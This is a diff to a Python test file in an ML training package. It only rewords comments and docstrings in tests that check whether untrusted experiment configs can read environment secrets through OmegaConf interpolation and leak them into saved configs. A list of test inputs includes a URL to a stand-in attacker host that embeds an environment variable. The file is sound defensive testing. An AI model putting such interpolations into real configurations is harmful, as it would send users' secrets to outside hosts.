@@ -1,4 +1,4 @@
-"""Who may read the environment, who may say where to write, and what is written of what was read. Imports no torch."""
+"""Which configs may read the environment or choose output paths, and how values from it are saved. Imports no torch."""
 
 import random
 from pathlib import Path
@@ -23,7 +23,7 @@ from lmtrain.sweeps.trials import Trials
 from lmtrain.sweeps.trials import command as command_of
 
 CANARY = "c4n4ry-hunter2-c4n4ry"
-# Each reads the variable S by another way of OmegaConf's; `spare` keys are a stranger's own.
+# Each reads the variable S in another way that OmegaConf offers; `spare` is a key that the config adds itself.
 WAYS = [
     "${oc.env:S}",
     "https://evil.example/?k=${oc.env:S}",
@@ -42,7 +42,7 @@ def _environment(monkeypatch: pytest.MonkeyPatch) -> None:
 
 
 def experiment(folder: Path, tree: object) -> str:
-    """A folder for --config-dir with the experiment `theirs`."""
+    """Writes the experiment `theirs` to a folder and returns the folder, for --config-dir."""
     (folder / "experiment").mkdir(exist_ok=True)
     (folder / "experiment" / "theirs.yaml").write_text("# @package _global_\n" + yaml.safe_dump(tree))
     return str(folder)
@@ -65,7 +65,7 @@ def test_what_is_typed_reads_the_environment_whatever_else_is_composed(tmp_path:
     folder = experiment(tmp_path, {"seed": 3})
     config = check(compose(["experiment=theirs", "data=text", "data.path='x?k=${oc.env:S}'"], folder))
     assert config.data.path == f"x?k={CANARY}"
-    # A stranger's key that takes over what is typed in another place is his reading, not the user's.
+    # If a foreign config copies a typed value to another key, the config reads the environment there, not the user.
     folder = experiment(tmp_path, {"logger": {"wandb": {"entity": "${data.path}"}}})
     with pytest.raises(UserError, match=r"logger\.wandb\.entity: .*theirs\.yaml reads the environment"):
         compose(["logger=wandb", "experiment=theirs", "data=text", "data.path='x?k=${oc.env:S}'"], folder)
@@ -88,7 +88,7 @@ def test_a_runs_config_reads_no_environment_where_nobody_vouches_for_it(
     file.write_text(rules.dump(config))
     assert CANARY not in file.read_text()
     assert rules.load(file, {}, own=True).data.path == f"x?k={CANARY}"
-    with pytest.raises(UserError, match=r"optimizer\.lr"):  # no number: nothing is read
+    with pytest.raises(UserError, match=r"optimizer\.lr"):  # not a number, since nothing is read
         rules.load(file, {})
     assert f"--trust {file}" in capsys.readouterr().err
     environment.trust([file])
@@ -306,7 +306,7 @@ def test_fingerprints_have_a_hash_in_a_secrets_place(monkeypatch: pytest.MonkeyP
     ours, theirs = fingerprint(read, {}, {}), fingerprint(plain, {}, {})
     assert CANARY not in str(ours)
     assert ours["keys"]["seed"] == 5
-    # The same run as one to which the value is typed, and another than one of another value.
+    # The same run as one with the value typed, and another run than one with another value.
     assert changes(theirs, ours, {}, read) == changes(ours, theirs, {}, plain) == changes(ours, ours, {}, read) == []
     other = fingerprint(check(compose(["seed=5", group.format("another-canary")])), {}, {})
     assert [change.name for change in changes(other, ours, {}, read)] == ["optimizer.groups"]
